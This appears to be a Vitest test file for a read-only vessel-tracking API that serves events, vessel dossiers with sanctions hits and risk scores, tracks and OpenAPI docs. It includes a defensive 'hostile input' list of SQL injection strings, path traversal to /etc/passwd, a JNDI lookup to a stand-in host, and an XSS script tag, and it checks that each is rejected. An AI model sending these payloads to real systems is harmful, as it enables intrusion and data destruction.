/**
 * The API through `app.request()` (no server): every route over a store analysed from the
 * bundled Nampo sample, and hostile input in every parameter answered 4xx with a message that
 * names the parameter.
 */
import { readFileSync, rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Hono } from 'hono';
import { createApp } from '../../src/api/app.js';
import { API_ROUTES, queryParams } from '../../src/api/openapi.js';
import { MAX_PAGE } from '../../src/api/params.js';
import type { Event } from '../../src/events.js';
import { openStore } from '../../src/store/index.js';
import type { Store, StoreStats } from '../../src/store/types.js';
import { VERSION } from '../../src/version.js';
import type { EventEvidence } from '../../src/query/evidence.js';
import { buildSampleStore, HIT, HIT_IMO, HIT_MMSI, SAMPLE, SAMPLE_POSITIONS } from './sample.js';

interface ErrorJson {
  error: { status: number; code: string; message: string };
}

let dir: string;
let store: Store;
let app: Hono;
let all: Event[];
let before: StoreStats;
const internal: unknown[] = [];

beforeAll(async () => {
  const built = await buildSampleStore();
  dir = built.dir;
  store = await openStore(built.db, { readOnly: true, threads: 1 });
  app = createApp({ store, onInternalError: (err) => internal.push(err) });
  all = await store.events();
  before = await store.stats();
});
afterAll(async () => {
  await store?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

async function get(path: string, init?: RequestInit): Promise<{ status: number; body: unknown; res: Response }> {
  const res = await app.request(path, init);
  const text = await res.text();
  const type = res.headers.get('content-type') ?? '';
  return { status: res.status, body: type.includes('json') && text ? (JSON.parse(text) as unknown) : text, res };
}

async function getJson<T>(path: string): Promise<T> {
  const r = await get(path);
  expect(r.status, `${path}: ${JSON.stringify(r.body)}`).toBe(200);
  return r.body as T;
}

async function expectError(path: string, status: number, names: string | RegExp, init?: RequestInit): Promise<ErrorJson> {
  const r = await get(path, init);
  expect(r.status, `${path} -> ${JSON.stringify(r.body)}`).toBe(status);
  expect(r.res.headers.get('content-type')).toMatch(/application\/json/);
  const body = r.body as ErrorJson;
  expect(body.error.status).toBe(status);
  if (typeof names === 'string') expect(body.error.message, path).toContain(names);
  else expect(body.error.message, path).toMatch(names);
  return body;
}

const q = (params: Record<string, string>): string => new URLSearchParams(params).toString();

describe('GET /api/stats', () => {
  it('says what the store holds, its time range and the version', async () => {
    const s = await getJson<StoreStats & { timeRange: { from: string; to: string }; version: string }>('/api/stats');
    expect(s.positions).toBe(SAMPLE_POSITIONS);
    expect(s.vessels).toBe(133);
    expect(s.events.encounter).toBe(3);
    expect(s.timeRange.from.startsWith('2026-03-01')).toBe(true);
    expect(s.version).toBe(VERSION);
  });
});

describe('GET /api/events', () => {
  it('pages every stored event once, in (start, id) order, with an opaque cursor', async () => {
    expect(all.length).toBeGreaterThan(100);
    const got: Event[] = [];
    let url = '/api/events';
    let pages = 0;
    for (;;) {
      const page = await getJson<{ events: Event[]; next: string | null }>(url);
      pages++;
      got.push(...page.events);
      if (!page.next) break;
      expect(page.events.length).toBe(100);
      expect(page.next).toMatch(/^[A-Za-z0-9_-]+$/);
      url = `/api/events?cursor=${page.next}`;
    }
    expect(pages).toBe(Math.ceil(all.length / 100));
    expect(got).toEqual(all);
  });

  it('filters by type, MMSI, box, time, flags and confidence as the store does', async () => {
    const enc = await getJson<{ events: Event[] }>('/api/events?type=encounter');
    expect(enc.events.map((e) => e.id)).toEqual(all.filter((e) => e.type === 'encounter').map((e) => e.id));
    const mine = await getJson<{ events: Event[] }>(`/api/events?mmsi=${HIT_MMSI}`);
    expect(mine.events.length).toBeGreaterThan(0);
    expect(mine.events.every((e) => e.mmsi.includes(HIT_MMSI))).toBe(true);
    const night = await getJson<{ events: Event[] }>(`/api/events?${q({ flags: 'night,outside_territorial_sea', minConfidence: '0.9' })}`);
    expect(night.events.map((e) => e.id)).toEqual(all.filter((e) => e.flags.includes('night') && e.flags.includes('outside_territorial_sea') && e.confidence >= 0.9).map((e) => e.id));
    const box = await getJson<{ events: Event[] }>(`/api/events?${q({ bbox: '124,37.5,125,38', limit: '1000' })}`);
    expect(box.events.map((e) => e.id)).toEqual(all.filter((e) => e.lat !== null && e.lon !== null && e.lat >= 37.5 && e.lat <= 38 && e.lon >= 124 && e.lon <= 125).map((e) => e.id));
    const range = await getJson<{ events: Event[] }>(`/api/events?${q({ from: '2026-03-01T10:00:00Z', to: '2026-03-01T11:00:00Z', limit: '1000' })}`);
    const lo = Date.parse('2026-03-01T10:00:00Z'), hi = Date.parse('2026-03-01T11:00:00Z');
    expect(range.events.map((e) => e.id)).toEqual(all.filter((e) => Date.parse(e.end) >= lo && Date.parse(e.start) <= hi).map((e) => e.id));
    const two = await getJson<{ events: Event[]; next: string }>('/api/events?limit=2&type=zone_entry,zone_exit');
    expect(two.events.length).toBe(2);
    expect(two.next).not.toBeNull();
  });

  it('answers GeoJSON and CSV through the exporters, the next page in a Link header', async () => {
    const r = await get('/api/events?format=geojson&limit=5');
    expect(r.status).toBe(200);
    expect(r.res.headers.get('content-type')).toMatch(/^application\/geo\+json/);
    const fc = r.body as { type: string; features: { type: string; id: string; geometry: { type: string; coordinates: number[] } | null }[] };
    expect(fc.type).toBe('FeatureCollection');
    expect(fc.features.map((f) => f.id)).toEqual(all.slice(0, 5).map((e) => e.id));
    expect(r.res.headers.get('link')).toMatch(/^<\/api\/events\?format=geojson&limit=5&cursor=[A-Za-z0-9_-]+>; rel="next"$/);
    const nextUrl = /^<([^>]+)>/.exec(r.res.headers.get('link')!)![1]!;
    const fc2 = (await get(nextUrl)).body as typeof fc;
    expect(fc2.features.map((f) => f.id)).toEqual(all.slice(5, 10).map((e) => e.id));
    const csv = await get('/api/events?format=csv&type=encounter');
    expect(csv.res.headers.get('content-type')).toMatch(/^text\/csv/);
    const lines = String(csv.body).trim().split('\n');
    expect(lines[0]).toBe('id,type,start,end,hours,mmsi,lat,lon,confidence,flags,rule,evidence');
    expect(lines.length).toBe(4);
    expect(csv.res.headers.get('link')).toBeNull();
  });

  it('bounds the page: limit above the largest page is a 400 naming limit', async () => {
    await expectError(`/api/events?limit=${MAX_PAGE + 1}`, 400, /^limit: .*page with cursor/);
    await expectError('/api/events?limit=100000000000', 400, 'limit');
    expect((await getJson<{ events: Event[] }>(`/api/events?limit=${MAX_PAGE}`)).events.length).toBe(Math.min(MAX_PAGE, all.length));
  });
});

describe('GET /api/events/:id', () => {
  it('returns the event with its rule and evidence', async () => {
    const e = all.find((x) => x.type === 'encounter')!;
    expect(await getJson<Event>(`/api/events/${encodeURIComponent(e.id)}`)).toEqual(e);
    // the colons of an id need no encoding
    expect(await getJson<Event>(`/api/events/${e.id}`)).toEqual(e);
  });
  it('is a 404 naming the id for an id the store does not hold, a 400 for what is no id', async () => {
    await expectError(`/api/events/${encodeURIComponent('encounter:1-2:2020-01-01T00:00:00Z')}`, 404, /^id: event .* is not in this store/);
    await expectError(`/api/events/${encodeURIComponent('../../../etc/passwd')}`, 400, /^id: /);
    await expectError(`/api/events/${encodeURIComponent('..\\..\\windows\\win.ini')}`, 400, /^id: /);
    await expectError('/api/events/%00', 400, /^id: /);
    // an unencoded traversal never reaches a route
    await expectError('/api/events/../../etc/passwd', 404, /^no route/);
  });
});

describe('GET /api/events/:id/raw', () => {
  it('gives the input lines behind an event: file, line number, the sentence as read', async () => {
    const lines = readFileSync(SAMPLE, 'utf8').split('\n');
    const e = all.find((x) => x.type === 'encounter')!;
    const ev = await getJson<EventEvidence>(`/api/events/${encodeURIComponent(e.id)}/raw`);
    expect(ev.id).toBe(e.id);
    expect(ev.records.length).toBe((e.evidence.positionIds as string[]).length);
    for (const r of ev.records) {
      expect(Object.keys(r).sort()).toEqual(['kind', 'lineNo', 'mmsi', 'problem', 'source', 't', 'text']);
      expect(r).toMatchObject({ kind: 'position', problem: null, source: { path: SAMPLE, format: 'nmea' } });
      expect(e.mmsi).toContain(r.mmsi);
      expect(r.text).toBe(lines[r.lineNo! - 1]);
    }
  });
  it('is a 404 for an id the store does not hold, a 400 for what is no id or an unknown parameter', async () => {
    await expectError(`/api/events/${encodeURIComponent('encounter:1-2:2020-01-01T00:00:00Z')}/raw`, 404, /^id: event .* is not in this store/);
    await expectError(`/api/events/${encodeURIComponent("1' OR '1'='1")}/raw`, 400, /^id: /);
    await expectError(`/api/events/${encodeURIComponent(all[0]!.id)}/raw?limit=5`, 400, /^unknown parameter "limit"/);
  });
});

describe('GET /api/vessels?q=', () => {
  interface Found {
    vessels: { mmsi: number; name: string | null; imo: number | null; callsign: string | null; matched: { field: string; value: string }[]; lastSeen: string | null }[];
  }
  it('finds a vessel by name, call sign, MMSI, IMO and part of its name', async () => {
    const byName = await getJson<Found>('/api/vessels?q=myong%20ryu%20gang');
    expect(byName.vessels[0]).toMatchObject({ mmsi: HIT_MMSI, name: 'MYONG RYU GANG', imo: HIT_IMO, callsign: 'HMB384', matched: [{ field: 'name', value: 'MYONG RYU GANG' }] });
    expect(byName.vessels[0]!.lastSeen).toMatch(/^2026-03-01T/);
    expect((await getJson<Found>('/api/vessels?q=HMB384')).vessels.map((v) => v.mmsi)).toEqual([HIT_MMSI]);
    expect((await getJson<Found>(`/api/vessels?q=${HIT_MMSI}`)).vessels.map((v) => v.mmsi)).toEqual([HIT_MMSI]);
    expect((await getJson<Found>(`/api/vessels?q=${HIT_IMO}`)).vessels.map((v) => v.mmsi)).toContain(HIT_MMSI);
    expect((await getJson<Found>(`/api/vessels?q=IMO${HIT_IMO}`)).vessels.map((v) => v.mmsi)).toContain(HIT_MMSI);
    const part = await getJson<Found>('/api/vessels?q=ryu&limit=100');
    expect(part.vessels.map((v) => v.mmsi)).toContain(HIT_MMSI);
    expect(part.vessels.every((v) => v.matched.length > 0)).toBe(true);
  });
  it('takes free text literally: an injection string is a name nobody has', async () => {
    for (const s of ["' OR '1'='1", "x'; DROP TABLE statics; --", '%%', '_%_', 'a\\b']) {
      expect((await getJson<Found>(`/api/vessels?${q({ q: s })}`)).vessels, s).toEqual([]);
    }
    expect(await store.stats()).toEqual(before);
  });
  it('needs q, and bounds it and the limit', async () => {
    await expectError('/api/vessels', 400, /^q: required/);
    await expectError('/api/vessels?q=a', 400, /^q: /);
    await expectError(`/api/vessels?q=${'A'.repeat(65)}`, 400, /^q: /);
    await expectError('/api/vessels?q=ab&limit=101', 400, /^limit: /);
  });
});

describe('GET /api/vessels/:mmsi', () => {
  interface Dossier {
    mmsi: number;
    seen: { positions: number; firstSeen: string };
    identities: { name: string; imo: number; from: string; to: string }[];
    events: Event[];
    eventsTotal: number;
    screeningHits: typeof HIT[];
    risk: { score: number; period: { from: string; to: string }; components: { points: number; category: string; evidence: { event?: string; entity?: string } }[] };
  }
  it('holds the identity timeline, events, screening hits with their paths and a risk score with its evidence', async () => {
    const d = await getJson<Dossier>(`/api/vessels/${HIT_MMSI}`);
    expect(d.mmsi).toBe(HIT_MMSI);
    expect(d.seen.positions).toBeGreaterThan(0);
    expect(d.identities[0]).toMatchObject({ name: 'MYONG RYU GANG', imo: HIT_IMO });
    expect(d.identities[0]!.from).toMatch(/^2026-03-01T/);
    expect(d.events.map((e) => e.id)).toEqual(all.filter((e) => e.mmsi.includes(HIT_MMSI)).map((e) => e.id));
    expect(d.eventsTotal).toBe(d.events.length);
    expect(d.screeningHits).toEqual([HIT]);
    expect(d.screeningHits[0]!.path.map((s) => s.relation)).toEqual([null, 'owner']);
    const sanctions = d.risk.components.find((c) => c.category === 'sanctions')!;
    expect(sanctions.evidence.entity).toBe('ofac-99999');
    const enc = d.risk.components.find((c) => c.category === 'encounter')!;
    expect(all.find((e) => e.id === enc.evidence.event)?.type).toBe('encounter');
    expect(d.risk.score).toBe(Math.min(100, d.risk.components.reduce((s, c) => s + c.points, 0)));
    expect(d.risk.period.from).toBe(d.seen.firstSeen);
    expect(d.risk.period.to >= d.events[d.events.length - 1]!.end).toBe(true);
  });
  it('is a 404 "not in this store" for an MMSI the store never saw, never a clean score', async () => {
    expect(await store.vesselSeen(636999999)).toBeNull();
    const e = await expectError('/api/vessels/636999999', 404, /^mmsi: 636999999 is not in this store/);
    expect(e.error.code).toBe('not_found');
    await expectError('/api/vessels/636999999/track', 404, /not in this store/);
    // the sample's invalid MMSI 123456789 was seen: it has a dossier (and a spoofing event)
    expect((await getJson<Dossier>('/api/vessels/123456789')).risk.score).toBeGreaterThan(0);
  });
});

describe('GET /api/vessels/:mmsi/track', () => {
  interface Track {
    type: string;
    geometry: { type: 'LineString'; coordinates: [number, number][] } | { type: 'MultiLineString'; coordinates: [number, number][][] } | null;
    properties: { mmsi: number; from: string; to: string; positions: number; points: number; times: number[][]; tolerancePx: number };
  }
  const lines = (t: Track): [number, number][][] => (t.geometry === null ? [] : t.geometry.type === 'LineString' ? [t.geometry.coordinates] : t.geometry.coordinates);

  it('is a GeoJSON Feature of the last 24 hours by default, times parallel to the coordinates', async () => {
    const r = await get(`/api/vessels/${HIT_MMSI}/track`);
    expect(r.status).toBe(200);
    expect(r.res.headers.get('content-type')).toMatch(/^application\/geo\+json/);
    const t = r.body as Track;
    expect(t.type).toBe('Feature');
    const seen = (await store.vesselSeen(HIT_MMSI))!;
    expect(t.properties.positions).toBe(seen.positions);
    expect(Date.parse(t.properties.to)).toBe(seen.lastSeen);
    const ls = lines(t);
    expect(ls.length).toBeGreaterThan(0);
    expect(ls.map((l) => l.length)).toEqual(t.properties.times.map((x) => x.length));
    for (const l of ls) {
      expect(l.length).toBeGreaterThanOrEqual(2);
      for (const [lon, lat] of l) expect(lon > 122 && lon < 126 && lat > 37 && lat < 40).toBe(true);
    }
    const ts = t.properties.times.flat();
    expect([...ts].sort((a, b) => a - b)).toEqual(ts);
  });
  it('takes a range and simplifies for the zoom', async () => {
    const full = await getJson<Track>(`/api/vessels/${HIT_MMSI}/track?${q({ from: '2026-03-01', to: '2026-03-02' })}`);
    expect(full.properties.points).toBe(full.properties.positions);
    const far = await getJson<Track>(`/api/vessels/${HIT_MMSI}/track?${q({ from: '2026-03-01', to: '2026-03-02', zoom: '3' })}`);
    expect(far.properties.points).toBeLessThan(full.properties.points);
    expect(far.properties.tolerancePx).toBeGreaterThan(0);
    const part = await getJson<Track>(`/api/vessels/${HIT_MMSI}/track?${q({ from: '2026-03-01T08:00:00Z', to: '2026-03-01T09:00:00Z' })}`);
    expect(part.properties.positions).toBeLessThan(full.properties.positions);
    for (const t of part.properties.times.flat()) expect(t >= Date.parse('2026-03-01T08:00:00Z') && t <= Date.parse('2026-03-01T09:00:00Z')).toBe(true);
  });
  it('bounds the range to 31 days and names the bad end', async () => {
    await expectError(`/api/vessels/${HIT_MMSI}/track?${q({ from: '2020-01-01', to: '2026-03-01' })}`, 400, /^to: .*longer than 31 days/);
    await expectError(`/api/vessels/${HIT_MMSI}/track?${q({ from: '2026-03-02', to: '2026-03-01' })}`, 400, /^from: .*after/);
    await expectError(`/api/vessels/${HIT_MMSI}/track?${q({ from: '2026-02-30' })}`, 400, /^from: /);
    await expectError(`/api/vessels/${HIT_MMSI}/track?zoom=23`, 400, /^zoom: /);
  });
});

describe('GET /api/openapi.json', () => {
  interface Doc {
    openapi: string;
    paths: Record<string, { get: { parameters: { name: string; in: string; required: boolean; schema: object }[]; responses: Record<string, unknown> } }>;
  }
  it('is OpenAPI 3.1 and describes every route the app serves and every parameter it takes', async () => {
    const doc = await getJson<Doc>('/api/openapi.json');
    expect(doc.openapi).toBe('3.1.0');
    // the API's routes (the web map's files at / are not API: routes/static.ts)
    const served = [...new Set(app.routes.filter((r) => r.method === 'GET' && r.path.startsWith('/api/')).map((r) => r.path.replace(/:(\w+)/g, '{$1}')))].sort();
    expect(Object.keys(doc.paths).sort()).toEqual(served);
    for (const [p, item] of Object.entries(doc.paths)) {
      const inPath = [...p.matchAll(/\{(\w+)\}/g)].map((m) => m[1]);
      expect(item.get.parameters.filter((x) => x.in === 'path').map((x) => x.name), p).toEqual(inPath);
      expect(item.get.parameters.every((x) => x.schema && (x.in !== 'path' || x.required)), p).toBe(true);
      expect(Object.keys(item.get.responses), p).toContain('200');
    }
    // the event filters are the shared schema's, plus the page and format
    expect(queryParams('/api/events').sort()).toEqual(['bbox', 'cursor', 'flags', 'format', 'from', 'limit', 'minConfidence', 'mmsi', 'to', 'type']);
  });
  it('every documented query parameter is taken by its route (an undocumented one is a 400)', async () => {
    const samples: Record<string, string> = { type: 'gap', mmsi: String(HIT_MMSI), bbox: '120,30,130,40', from: '2026-03-01', to: '2026-03-02', flags: 'night', minConfidence: '0.5', limit: '5', format: 'json', q: 'ryu', zoom: '8' };
    // /api/alerts streams without end from a hub this app has not: test/api/alerts.test.ts
    for (const r of API_ROUTES.filter((x) => x.path !== '/api/alerts')) {
      const path = r.path.replace('{id}', encodeURIComponent(all[0]!.id)).replace('{mmsi}', String(HIT_MMSI));
      for (const p of r.params.filter((x) => x.in === 'query' && x.name !== 'cursor')) {
        const extra = r.path === '/api/vessels' && p.name !== 'q' ? '&q=ryu' : '';
        const res = await get(`${path}?${p.name}=${encodeURIComponent(samples[p.name]!)}${extra}`);
        expect(res.status, `${path} ${p.name}: ${JSON.stringify(res.body)}`).toBe(200);
      }
      await expectError(`${path}?bogus=1`, 400, /^unknown parameter "bogus"/);
    }
  });
});

describe('hostile input', () => {
  const HOSTILE = [
    "' OR '1'='1",
    "1; DROP TABLE events; --",
    "1) UNION SELECT * FROM positions --",
    '"; DELETE FROM statics; --',
    '../../../../etc/passwd',
    '..%2F..%2Fetc%2Fpasswd',
    '${jndi:ldap://x.example/a}',
    '<script>alert(1)</script>',
    '\u0000',
    '9'.repeat(400),
    '-1',
    '1e309',
    'NaN',
    'Infinity',
    '0x1F',
    '１２３',
    '2024-02-30',
    '2024-13-01T00:00:00Z',
    'yesterday',
    '1,2,3',
    '200,0,210,10',
    '0,10,1,5',
    'a,b,c,d',
    '1,,2,3',
  ];
  // parameters whose every hostile value above is invalid (q is free text: see the vessel search tests)
  const cases: [string, string, Record<string, string>][] = [
    ...['type', 'mmsi', 'bbox', 'from', 'to', 'flags', 'minConfidence', 'limit', 'cursor', 'format'].map((p): [string, string, Record<string, string>] => ['/api/events', p, {}]),
    ['/api/vessels', 'limit', { q: 'ryu' }],
    ...['from', 'to', 'zoom'].map((p): [string, string, Record<string, string>] => [`/api/vessels/${HIT_MMSI}/track`, p, {}]),
  ];

  it('every hostile value of every query parameter is a 4xx naming the parameter, and nothing is a 500', async () => {
    let n = 0;
    for (const [path, param, base] of cases) {
      for (const v of HOSTILE) {
        // lower-case words are well-formed flag names: they match no event
        if (param === 'flags' && (v === 'yesterday' || v === 'a,b,c,d')) {
          expect((await getJson<{ events: Event[] }>(`${path}?${q({ flags: v })}`)).events).toEqual([]);
          continue;
        }
        const r = await get(`${path}?${new URLSearchParams({ ...base, [param]: v }).toString()}`);
        expect(r.status, `${path} ${param}=${JSON.stringify(v)}: ${JSON.stringify(r.body)}`).toBeGreaterThanOrEqual(400);
        expect(r.status).toBeLessThan(500);
        expect((r.body as ErrorJson).error.message, `${path} ${param}=${v}`).toMatch(new RegExp(`^${param}: `));
        n++;
      }
    }
    expect(n).toBe(cases.length * HOSTILE.length - 2);
  });

  it('every hostile value in a path is a 4xx naming it', async () => {
    for (const v of HOSTILE) {
      for (const path of [`/api/vessels/${encodeURIComponent(v)}`, `/api/vessels/${encodeURIComponent(v)}/track`]) {
        const r = await get(path);
        expect(r.status, `${path}: ${JSON.stringify(r.body)}`).toBe(400);
        expect((r.body as ErrorJson).error.message).toMatch(/^mmsi: /);
      }
      const r = await get(`/api/events/${encodeURIComponent(v)}`);
      expect(r.status, v).toBe(400);
      expect((r.body as ErrorJson).error.message).toMatch(/^id: /);
    }
  });

  it('refuses unknown and repeated parameters, writes, long targets, foreign hosts; unknown routes are JSON 404s', async () => {
    await expectError("/api/events?'%20OR%201=1=1", 400, /^unknown parameter/);
    await expectError('/api/events?type=gap&type=encounter', 400, /^type: given 2 times/);
    for (const method of ['POST', 'PUT', 'PATCH', 'DELETE']) {
      const r = await get('/api/events', { method, body: '{}' });
      expect(r.status).toBe(405);
      expect(r.res.headers.get('allow')).toBe('GET, HEAD');
    }
    const head = await app.request('/api/stats', { method: 'HEAD' });
    expect(head.status).toBe(200);
    await expectError(`/api/events?type=${'a'.repeat(5000)}`, 414, 'longer than');
    await expectError('http://evil.example/api/stats', 403, /not a loopback name/);
    const nf = await expectError('/api/nothing', 404, /^no route GET \/api\/nothing/);
    expect(nf.error.code).toBe('not_found');
    expect((await app.request('/api/nothing')).headers.get('x-content-type-options')).toBe('nosniff');
    expect((await app.request('/api/events?limit=x')).headers.get('x-content-type-options')).toBe('nosniff');
    await expectError('/nothing-here', 404, /^no route/);
    await expectError('/api/events/x/raw', 400, /^id: /);
    await expectError('/api/events/x/raw/more', 404, /^no route/);
  });

  it('left the store as it was, with no 5xx along the way', async () => {
    expect(await store.stats()).toEqual(before);
    expect(internal).toEqual([]);
  });
});

describe('bearer token', () => {
  const TOKEN = 'test-token-0123456789abcdef';
  it('needs Authorization: Bearer on every call, and lets any Host in', async () => {
    const secured = createApp({ store, token: TOKEN });
    for (const path of ['/api/stats', '/api/events', '/api/openapi.json', '/api/nothing']) {
      const none = await secured.request(path);
      expect(none.status).toBe(401);
      expect(none.headers.get('www-authenticate')).toMatch(/^Bearer/);
      expect(((await none.json()) as ErrorJson).error.message).toMatch(/Bearer/);
      const wrong = await secured.request(path, { headers: { Authorization: `Bearer ${TOKEN}x` } });
      expect(wrong.status).toBe(401);
      const short = await secured.request(path, { headers: { Authorization: 'Bearer t' } });
      expect(short.status).toBe(401);
      const basic = await secured.request(path, { headers: { Authorization: `Basic ${TOKEN}` } });
      expect(basic.status).toBe(401);
    }
    const ok = await secured.request('http://analyst-box.lan:8080/api/stats', { headers: { Authorization: `Bearer ${TOKEN}` } });
    expect(ok.status).toBe(200);
  });
});
